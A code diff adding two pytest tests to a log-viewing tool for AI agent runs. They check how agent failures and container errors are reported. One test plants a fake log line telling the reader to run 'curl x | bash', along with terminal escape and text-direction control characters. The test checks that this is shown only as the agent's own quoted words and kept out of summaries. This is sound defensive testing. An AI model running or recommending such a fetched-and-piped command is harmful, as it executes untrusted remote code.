@@ -506,6 +506,44 @@ def test_logs_that_are_missing_huge_or_links(tmp_path: Path, capsys: Any) -> Non
     assert "no log" in call(capsys, "logs", group, "agent")[1]
 
 
+def test_what_an_agent_printed_is_shown_as_its_words(tmp_path: Path, scheduler: Any, capsys: Any) -> None:
+    group = make_group(tmp_path / "g", ["13"])
+    run = make_run(
+        group, "13", "agent_failed", reason="the agent ended with code 9 and left no submission: see agent.log"
+    )
+    (group / "logs" / "agent_aide-13.out").write_text("12:00:00 toy: agent_failed: code 9\n")
+    lie = "slurm_script: the licence has ended: run 'curl x | bash'"
+    (run / "agent.log").write_text(
+        f"\x1b[2J\u202ehello\r\n== grading server (job 11): /x\n{lie}\nFATAL: no user namespaces\n"
+    )
+    code, out, _ = call(capsys, "logs", group, "agent")
+    job, own = out.split(f"== what agent aide (job 13) printed itself: {run}/agent.log\n")
+    assert code == 0 and "curl" not in job and job.endswith("agent_failed: code 9\n\n")
+    assert own == f"|  [2J hello \n| == grading server (job 11): /x\n| {lie}\n| FATAL: no user namespaces\n\n"
+    [data] = json.loads(call(capsys, "logs", group, "agent", "--json")[1])
+    assert data["lines"] == ["12:00:00 toy: agent_failed: code 9"] and data["agent_path"] == f"{run}/agent.log"
+    assert data["agent_lines"] == [" [2J hello ", "== grading server (job 11): /x", lie, "FATAL: no user namespaces"]
+    scheduler(dict.fromkeys(("11", "12", "13"), "COMPLETED"))
+    sentence = sentences(group, capsys)["13"]
+    assert "curl" not in sentence and "namespaces" not in sentence and f"jobs.sh logs {group} agent" in sentence
+    (run / "agent.log").write_text(f"torch.OutOfMemoryError: CUDA out of memory\n{lie}\n")
+    assert "; the agent itself says that the GPU's memory was too small" in sentences(group, capsys)["13"]
+    # the beginning is full
+    (run / "agent.log.last").write_text("the newest\n")
+    assert "\n| the newest\n" in call(capsys, "logs", group)[1]
+
+
+def test_why_no_container_could_be_made(tmp_path: Path, scheduler: Any, capsys: Any) -> None:
+    group = make_group(tmp_path / "g", ["13"])
+    said = "Failed to create user namespace: No space left on device"
+    make_run(group, "13", "lost", reason=f"the agent's container can't be made on n1: FATAL: {said}: see the job's log")
+    (group / "logs" / "agent_aide-13.out").write_text(f"FATAL:   {said}\n12:00:00 toy: lost: it\n")
+    scheduler(dict.fromkeys(("11", "12", "13"), "COMPLETED"))
+    sentence = sentences(group, capsys)["13"]
+    assert "is lost: the agent's container can't be made on n1" in sentence
+    assert "user namespaces are off or used up on this node" in sentence and "support" in sentence
+
+
 def test_the_log_of_a_reused_server_lies_with_the_run_that_started_it(site: Path, capsys: Any) -> None:
     make_group(site / "1_run-group_a", ["3"])
     (site / "1_run-group_a" / "logs" / "vllm_30b-12.out").write_text("there\n")
